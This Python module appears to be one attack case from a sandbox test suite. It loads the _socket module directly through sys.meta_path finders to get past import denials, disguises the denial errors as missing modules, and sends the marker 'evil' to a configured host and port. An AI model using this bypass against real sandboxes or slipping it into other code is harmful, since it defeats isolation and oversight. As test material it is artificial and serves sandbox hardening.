"""Denials are made to look like absent modules, to be tried elsewhere."""
CATEGORY = "tampering"
REACH = "net"

import sys

from . import payload


def attack():
    for name in "socket", "_socket":
        try:
            __import__(name)
        except ImportError as error:
            error.name = error.path = None
            error.__class__ = ImportError
    for finder in sys.meta_path:
        spec = finder.find_spec("_socket", None)
        if spec is not None:
            module = spec.loader.create_module(spec)
            spec.loader.exec_module(module)
            client = module.socket()
            client.connect((payload.HOST, payload.PORT))
            client.send(b"evil")
            break
